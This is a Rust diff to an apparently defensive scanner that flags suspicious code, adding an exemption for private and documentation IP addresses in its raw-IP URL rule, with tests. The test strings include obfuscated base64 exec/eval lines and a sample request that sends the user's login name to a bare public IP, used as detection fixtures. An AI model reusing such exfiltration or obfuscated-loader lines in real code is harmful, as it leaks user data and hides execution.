@@ -431,7 +431,10 @@ impl RuleSet {
                     continue;
                 };
                 for m in re.find_iter(line) {
-                    if r.id == "raw-ip-url" && is_local_address(m.as_str()) {
+                    if r.id == "raw-ip-url"
+                        && (is_local_address(m.as_str())
+                            || (on_load && is_private_address(m.as_str())))
+                    {
                         continue;
                     }
                     let entry = into
@@ -519,6 +522,24 @@ pub struct Checked {
 fn is_comment(line: &str) -> bool {
     let t = line.trim_start();
     t.starts_with('#') || t.starts_with("//")
+}
+
+/// A private, link-local, shared or documentation address (RFC 1918,
+/// 3927, 6598, 5737): what examples and local services use.
+fn is_private_address(url: &str) -> bool {
+    let host = url.split("://").nth(1).unwrap_or("");
+    let octets: Vec<u32> = host
+        .split(['.', ':', '/'])
+        .take(4)
+        .filter_map(|o| o.parse().ok())
+        .collect();
+    match octets[..] {
+        [10, ..] | [192, 168, ..] | [169, 254, ..] => true,
+        [172, b, ..] => (16..32).contains(&b),
+        [100, b, ..] => (64..128).contains(&b),
+        [192, 0, 2, _] | [198, 51, 100, _] | [203, 0, 113, _] => true,
+        _ => false,
+    }
 }
 
 fn is_local_address(url: &str) -> bool {
@@ -748,12 +769,24 @@ mod tests {
             "base_url: str = \"https://api.telegram.org/bot\",",
             // A CGI server hands its request body to the script it runs.
             "os.dup2(self.rfile.fileno(), 0)",
+            // Bare addresses in documentation, and private ones anywhere.
+            ">>> extract(\"http://256.1.1.1\").ipv4",
+            "doh_url: DNS-over-HTTPS server url, e.g. https://1.1.1.1/dns-query.",
+            "requests.get('http://192.168.1.20:8080/status')",
             // Comments do not run.
             "#     import os; f = open(os.devnull); os.dup2(f.fileno(), 0); exec(b64decode(x))",
             "// eval(Buffer.from(x, 'base64').toString())",
         ] {
             assert!(rules(Runs::Import, text).is_empty(), "{text}");
         }
+        // A request to a bare public address is one on load too.
+        assert_eq!(
+            rules(
+                Runs::Import,
+                "requests.get(\"http://178.128.214.12:7272/?1=\"+os.getlogin())"
+            ),
+            ["raw-ip-url:Deny"]
+        );
         // A stealer's drop box is one wherever it is named.
         assert_eq!(
             rules(
